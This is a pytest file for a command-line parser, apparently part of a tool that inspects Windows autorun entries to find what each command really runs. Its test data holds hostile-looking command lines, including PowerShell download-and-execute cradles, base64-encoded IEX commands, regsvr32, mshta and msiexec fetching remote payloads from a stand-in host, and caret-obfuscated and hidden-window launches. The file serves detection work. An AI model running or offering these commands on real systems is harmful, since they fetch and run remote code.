"""What a command really runs."""

from __future__ import annotations

import base64

import pytest

from runkeyhunt.budget import MAX_LENGTH
from runkeyhunt.commandline.arguments import split_program, stem, tokens
from runkeyhunt.commandline.commandline import arguments_are_data, parse_command, parse_file


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "program", "arguments"),
    [
        (r'"C:\Program Files\A B\c.exe" -x', r"C:\Program Files\A B\c.exe", "-x"),
        (r'"C:\a.exe"-x', r"C:\a.exe", "-x"),
        (r'"C:\unclosed.exe -x', r"C:\unclosed.exe -x", ""),
        (r"C:\Program Files\A B\c.exe -x C:\d.exe", r"C:\Program Files\A B\c.exe", r"-x C:\d.exe"),
        (
            r"C:\Program Files\Docker\Docker Desktop.exe -Autostart",
            r"C:\Program Files\Docker\Docker Desktop.exe",
            "-Autostart",
        ),
        (r"C:\Windows\System32\cmd /c C:\a.bat", r"C:\Windows\System32\cmd", r"/c C:\a.bat"),
        (r"powershell -File C:\a b.ps1", "powershell", r"-File C:\a b.ps1"),
        (r"C:\no extension here", r"C:\no", "extension here"),
        (r"C:\Program Files\A\tool -x", r"C:\Program Files\A\tool", "-x"),
        (r"C:/Program Files (x86)/Common Files/A/tool /x", r"C:/Program Files (x86)/Common Files/A/tool", "/x"),
        (r"C:\Users\<user>\My App\a.exe -x", r"C:\Users\<user>\My App\a.exe", "-x"),
        (r"C:\A B\keys.au3 -x", r"C:\A B\keys.au3", "-x"),
        (r"C:\A B\start.a3x", r"C:\A B\start.a3x", ""),
        (r"C:\A B\run.ps1 -x", r"C:\A B\run.ps1", "-x"),
        (r"C:\A B\song 2.mp3", r"C:\A B\song 2.mp3", ""),
        (r"C:\A B\archive.7z", r"C:\A B\archive.7z", ""),
        (r"C:\Windows\notepad my notes.txt", r"C:\Windows\notepad", "my notes.txt"),
        (r"C:\A B\c.exe. -x", r"C:\A B\c.exe", "-x"),
        ("C:\\a.exe\t-x", r"C:\a.exe", "-x"),
        ("", "", ""),
        ('"', "", ""),
    ],
)
def test_split_program(text: str, program: str, arguments: str) -> None:
    assert split_program(text) == (program, arguments)


def test_tokens_keep_quoted_blanks_together() -> None:
    assert tokens('-a "b c" d"e f"g "unclosed h') == ["-a", "b c", "de fg", "unclosed h"]


@pytest.mark.parametrize(
    ("program", "expected"), [(r"C:\Windows\CMD.EXE", "cmd"), ("cmd.exe. ", "cmd"), ("a.b.exe", "a.b"), ("x.com", "x")]
)
def test_stem(program: str, expected: str) -> None:
    assert stem(program) == expected


@pytest.mark.parametrize(
    ("data", "program", "payload"),
    [
        (r"rundll32.exe C:\x.dll,Start", "rundll32.exe", r"C:\x.dll"),
        (r'rundll32 "C:\a b\x.dll" Start', "rundll32", r"C:\a b\x.dll"),
        (r"rundll32 C:\a b\x.dll,#1", "rundll32", r"C:\a b\x.dll"),
        ("RUNDLL32.EXE NvQTwk,NvCplDaemon initialize", "RUNDLL32.EXE", "NvQTwk"),
        (r"rundll32 url.dll,FileProtocolHandler C:\a.hta", "rundll32", r"C:\a.hta"),
        (r"rundll32 C:\Windows\System32\zipfldr.dll,RouteTheCall C:\a.exe", "rundll32", r"C:\a.exe"),
        (
            r'rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 "C:\t\IXP000.TMP\"',
            "rundll32.exe",
            r"C:\Windows\system32\advpack.dll",
        ),
        (
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x',
            "rundll32.exe",
            'javascript:"\\..\\mshtml,RunHTMLApplication ";x',
        ),
        ('cmd /c start "" wscript a.vbs', "cmd", "a.vbs"),
        (r'cmd.exe /s/c"start "title" /min /d C:\t "C:\a b\c.exe" -q"', "cmd.exe", r"C:\a b\c.exe"),
        (r"cmd /c timeout /t 5 & ping -n 3 127.0.0.1>nul & C:\a.exe", "cmd", r"C:\a.exe"),
        (r'cmd.exe /q /c del /q "C:\Users\u\x.exe"', "cmd.exe", "cmd.exe"),
        (r"cmd /v:on /c set a=C:\b&& call !a!\c.bat", "cmd", r"C:\b\c.bat"),
        (r"cmd /c if not exist C:\t (C:\a.exe)", "cmd", r"C:\a.exe"),
        (r"cmd /c for %i in (1) do C:\a.exe", "cmd", r"C:\a.exe"),
        (r'cmd /c start "" "C:\Program Files\A\a.exe" & C:\b.exe', "cmd", r"C:\b.exe"),
        (r'cmd /c "forfiles /m notepad.exe /c " C:\a.dll:b.exe', "cmd", r"C:\a.dll:b.exe"),
        ("cmd /cp^ow^ershell -c C:\\a.ps1", "cmd", r"C:\a.ps1"),
        (r'powershell -w hidden -ep bypass -f "C:\a b\c.ps1" -z', "powershell", r"C:\a b\c.ps1"),
        (r"powershell C:\a.ps1", "powershell", r"C:\a.ps1"),
        ("powershell -nop IEX (irm https://h.example/a.ps1)", "powershell", "https://h.example/a.ps1"),
        ("regsvr32 /s /n /u /i:http://h.example/a.sct scrobj.dll", "regsvr32", "http://h.example/a.sct"),
        (r"regsvr32 /s C:\a.dll", "regsvr32", r"C:\a.dll"),
        ("mshta http://h.example/a.hta", "mshta", "http://h.example/a.hta"),
        ('mshta vbscript:Execute("x y")', "mshta", 'vbscript:Execute("x y")'),
        (r"wscript //B //E:jscript C:\a.txt", "wscript", r"C:\a.txt"),
        ("msiexec /q /i http://h.example/a.msi", "msiexec", "http://h.example/a.msi"),
        ("msiexec /qn /ihttp://h.example/a.msi", "msiexec", "http://h.example/a.msi"),
        (r'forfiles /p C:\Windows /m notepad.exe /c "cmd /c 0x22C:\a b.bat0x22"', "forfiles", r"C:\a b.bat"),
        (r"pcalua -a C:\a.exe -c -z", "pcalua", r"C:\a.exe"),
        (r"conhost --headless --width 80 cmd /c C:\a.bat", "conhost", r"C:\a.bat"),
        (r"%COMSPEC% /b /c start /b /min powershell -File C:\a.ps1", r"C:\Windows\System32\cmd.exe", r"C:\a.ps1"),
        (r'cmd /c start /min "" powershell -W Hidden -File C:\a.ps1', "cmd", r"C:\a.ps1"),
        (r'regsvr32 /s /i:"--start" C:\a.ocx', "regsvr32", r"C:\a.ocx"),
        (r"odbcconf /a {REGSVR C:\a.dll}", "odbcconf", r"C:\a.dll"),
        (r"rundll32 setupapi.dll,InstallHinfSection DefaultInstall 128 C:\a.inf", "rundll32", r"C:\a.inf"),
        (r'bash.exe -c "/mnt/c/ProgramData/a.exe"', "bash.exe", r"C:\ProgramData\a.exe"),
        (r"certoc -LoadDLL C:\a.dll", "certoc", r"C:\a.dll"),
        (r"explorer /root,C:\a.exe", "explorer", r"C:\a.exe"),
        ("explorer.exe", "explorer.exe", "explorer.exe"),
        (r"ssh -o ProxyCommand=C:\a.exe host", "ssh", r"C:\a.exe"),
        (r'wmic process call create "C:\a.exe -b"', "wmic", r"C:\a.exe"),
        (r'"C:\Java\bin\javaw.exe" -Xmx1g -jar "C:\a b\c.jar"', r"C:\Java\bin\javaw.exe", r"C:\a b\c.jar"),
        (r"python -W ignore C:\a.py", "python", r"C:\a.py"),
        (r'C:\U\Update.exe --processStart "Teams.exe" --process-start-args "-x"', r"C:\U\Update.exe", "Teams.exe"),
        (r"%COMSPEC% /c %APPDATA%\a.bat", r"C:\Windows\System32\cmd.exe", r"C:\Users\<user>\AppData\Roaming\a.bat"),
        (r'cmd /c "net use x: \\fs\s && start x:\a.exe"', "cmd", r"x:\a.exe"),
        (r'powershell "Get-Date; C:\Tools\a.ps1"', "powershell", r"C:\Tools\a.ps1"),
        (r'start /min "" "C:\a b\c.exe" -q', "start", r"C:\a b\c.exe"),
        ("", "", ""),
    ],
)
def test_program_and_payload(data: str, program: str, payload: str) -> None:
    command = parse_command(data)
    assert (command.program, command.payload) == (program, payload)


@pytest.mark.parametrize("parameter", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "\u2013enc", "-e^nc"])
def test_every_abbreviation_of_an_encoded_command_is_decoded(parameter: str) -> None:
    script = "IEX (irm https://h.example/a)"
    command = parse_command(f"powershell.exe -NoP -W 1 {parameter} {encoded(script)}")
    assert (command.decoded, command.payload) == ((script,), "https://h.example/a")


def test_what_other_parameters_take_is_no_script() -> None:
    command = parse_command(r"powershell -ExecutionPolicy Bypass -Version 2 -File C:\a.ps1")
    assert (command.payload, command.decoded) == (r"C:\a.ps1", ())


def test_layers_name_every_command_from_the_outside_in() -> None:
    command = parse_command(r'forfiles /c "cmd /c start wscript C:\a.vbs & del C:\a.vbs"')
    assert [layer.text for layer in command.layers[1:]] == [
        r"cmd /c start wscript C:\a.vbs & del C:\a.vbs",
        r"start wscript C:\a.vbs",
        r"wscript C:\a.vbs",
        r"del C:\a.vbs",
    ]


def test_nesting_without_end_comes_to_an_end() -> None:
    command = parse_command("cmd /c " * 10_000)
    assert len(command.text) == MAX_LENGTH - 1
    assert len(command.layers) == 9


def test_a_value_of_several_commands_shows_the_first_program_and_the_last_payload() -> None:
    command = parse_command(r"C:\Windows\system32\userinit.exe,C:\a b\c.exe -x,", separator=",")
    assert [layer.text for layer in command.layers] == [r"C:\Windows\system32\userinit.exe", r"C:\a b\c.exe -x"]
    assert (command.program, command.payload) == (r"C:\Windows\system32\userinit.exe", r"C:\a b\c.exe")


def test_a_file_is_no_command_line() -> None:
    command = parse_file(r"C:\Start Menu\Programs\Startup\my script -x.bat")
    assert (command.program, command.payload) == (command.text, command.text)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (r'"C:\Program Files\A\a.exe" /log C:\Windows\Temp\a.log', True),
        (r"C:\Users\anna\AppData\Local\Programs\A\a.exe --config \\fs\a.ini", True),
        (r"%LOCALAPPDATA%\Programs\A\a.exe C:\Temp\a.txt", True),
        (r'"C:\Program Files\A\a.exe" C:\Windows\Temp\b.exe', False),
        (r'"C:\Program Files\A\a.exe" C:\Windows\Temp\b.dll,Start', False),
        (r'"C:\Program Files\A\a.exe" /log C:\Temp\a.log & C:\Temp\b', False),
        (r"C:\Program Files\A\..\..\Temp\a.exe C:\Temp\a.log", False),
        (r'"C:\Program Files\nodejs\node.exe" C:\Temp\a.log', False),
        (r"rundll32 C:\Temp\a.log,Start", False),
        (r"C:\Temp\a.exe C:\Temp\a.log", False),
        (r'"C:\Program Files\A\a.exe"', False),
    ],
)
def test_only_an_installed_program_that_starts_nothing_is_given_data(data: str, expected: bool) -> None:
    assert arguments_are_data(parse_command(data)) is expected


@pytest.mark.parametrize(
    ("data", "program", "payload", "text"),
    [
        (
            r"C:\PROGRA~1\EXAMPL~1\tool.exe -x",
            r"C:\Program Files\EXAMPL~1\tool.exe",
            r"C:\Program Files\EXAMPL~1\tool.exe",
            r"C:\Program Files\EXAMPL~1\tool.exe -x",
        ),
        (
            r"powershell -ep bypass -File C:\PROGRA~1\EXAMPL~1\LOGON~1.PS1 -z",
            "powershell",
            r"C:\Program Files\EXAMPL~1\LOGON~1.PS1",
            r"powershell -ep bypass -File C:\Program Files\EXAMPL~1\LOGON~1.PS1 -z",
        ),
        (
            r"cmd /c powershell -File C:\PROGRA~1\A\a.ps1",
            "cmd",
            r"C:\Program Files\A\a.ps1",
            r"cmd /c powershell -File C:\Program Files\A\a.ps1",
        ),
        (
            r"regsvr32 /s C:\PROGRA~2\A\a.ocx",
            "regsvr32",
            r"C:\Program Files (x86)\A\a.ocx",
            r"regsvr32 /s C:\Program Files (x86)\A\a.ocx",
        ),
        (
            r'cmd /c start "" C:\PROGRA~1\COMMON~1\A\a.exe -x',
            "cmd",
            r"C:\Program Files\Common Files\A\a.exe",
            r'cmd /c start "" C:\Program Files\Common Files\A\a.exe -x',
        ),
        (
            r'"C:\PROGRA~1\SYMANT~1\VPTray.exe" /x',
            r"C:\Program Files\SYMANT~1\VPTray.exe",
            r"C:\Program Files\SYMANT~1\VPTray.exe",
            r'"C:\Program Files\SYMANT~1\VPTray.exe" /x',
        ),
        (
            r"C:\DOCUME~1\ANNA~1\LOCALS~1\Temp\a.exe -q",
            r"C:\Users\ANNA~1\AppData\Local\Temp\a.exe",
            r"C:\Users\ANNA~1\AppData\Local\Temp\a.exe",
            r"C:\Users\ANNA~1\AppData\Local\Temp\a.exe -q",
        ),
    ],
)
def test_a_short_name_is_written_out_when_nothing_is_cut_any_more(
    data: str, program: str, payload: str, text: str
) -> None:
    command = parse_command(data)
    assert (command.program, command.payload, command.text) == (program, payload, text)
    assert not any("PROGRA~" in layer.text for layer in command.layers)


@pytest.mark.parametrize(
    ("data", "payload"),
    [
        (r'"C:\A\host.exe" "C:\A\start.lua"', r"C:\A\start.lua"),
        (r"C:\A B\host.exe C:\A B\lib\start 1.py -q", r"C:\A B\lib\start 1.py"),
        (r"C:\A\host.exe keys.a3x", "keys.a3x"),
        (r"C:\A\host.exe /quiet keys.ahk", "keys.ahk"),
        (r"C:\A\host.exe -File C:\B\a.ps1", r"C:\B\a.ps1"),
        (r"C:\A\host.exe /AutoIt3ExecuteScript C:\A\data.dat", r"C:\A\data.dat"),
        (r"C:\A\host.exe -Xmx1g -jar C:\A\data.bin", r"C:\A\data.bin"),
        (r"C:\A\host.exe C:\A\data.dll,Start", r"C:\A\data.dll"),
        (r"C:\A\host.exe C:\A\data.dll,#1", r"C:\A\data.dll"),
        (r'cmd /c start "" C:\A\host.exe C:\A\start.php', r"C:\A\start.php"),
    ],
)
def test_a_program_of_any_name_that_is_given_a_script_runs_it(data: str, payload: str) -> None:
    command = parse_command(data)
    assert (command.payload, [layer.script for layer in command.layers if layer.script]) == (payload, [payload])


@pytest.mark.parametrize(
    "data",
    [
        r'"C:\Program Files\A\host.exe" C:\A\start.lua',
        r"C:\A\host.exe --config settings.lua",
        r"C:\A\host.exe /log C:\A\a.js",
        r"C:\A\host.exe C:\A\notes.txt",
        r"C:\A\host.exe C:\A\data.dll",
        r"C:\A\notepad++.exe C:\A\start.lua",
        r"C:\A\host.exe -q",
        r"C:\A\host.exe",
    ],
)
def test_what_shows_or_reads_a_file_does_not_run_it(data: str) -> None:
    command = parse_command(data)
    assert (command.payload, command.layers[0].script) == (command.program, "")


@pytest.mark.parametrize(
    ("program", "payload"),
    [
        (r'"C:\Program Files\AutoHotkey\v2\AutoHotkey64.exe"', r"C:\A\a.x"),
        (r'"C:\Program Files\AutoHotkey\AutoHotkeyU32.exe"', r"C:\A\a.x"),
        (r"C:\A\AutoHotkey64_UIA.exe", r"C:\A\a.x"),
        (r"C:\A\AutoIt3_x64.exe", r"C:\A\a.x"),
        (r"C:\A\python3.11.exe", r"C:\A\a.x"),
        (r"C:\A\pythonw311.exe", r"C:\A\a.x"),
        (r"C:\A\php-win.exe", r"C:\A\a.x"),
        (r"C:\A\wlua5.1.exe", r"C:\A\a.x"),
        (r"C:\A\tclsh86t.exe", r"C:\A\a.x"),
        (r"C:\A\pythonhelper.exe", r"C:\A\pythonhelper.exe"),
    ],
)
def test_an_interpreter_is_known_in_every_version_and_build(program: str, payload: str) -> None:
    command = parse_command(rf"{program} C:\A\a.x")
    assert (command.payload, command.layers[0].script) == (payload, "")


@pytest.mark.parametrize(
    ("data", "payload"),
    [
        ("curl -x http://proxy:8080 https://h.example/a.exe -o a.exe", "https://h.example/a.exe"),
        ("msedge.exe --proxy-server=http://proxy:8080 https://h.example/", "https://h.example/"),
        ('powershell -c "iwr -Proxy http://proxy:8080 https://h.example/a.ps1 | iex"', "https://h.example/a.ps1"),
        (r'powershell -c "New-PSDrive -Name P -PSProvider FileSystem -Root \\fs\a.bat -Persist"', "powershell"),
        (r"cmd /c net use z: \\fs\home /persistent:yes", "cmd"),
        (r"cmd /c C:\a.exe & net use z: /delete", r"C:\a.exe"),
        (r"cmd /c C:\a.exe & subst x: /d", r"C:\a.exe"),
    ],
)
def test_what_a_command_only_names_is_not_its_payload(data: str, payload: str) -> None:
    assert parse_command(data).payload == payload


def test_a_folder_is_no_command_line() -> None:
    command = parse_file(r"%USERPROFILE%\Start Menu\Programs\My Startup -x")
    folder = r"C:\Users\<user>\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\My Startup -x"
    assert (command.program, command.payloads, command.layers[0].arguments) == (folder, (folder,), "")
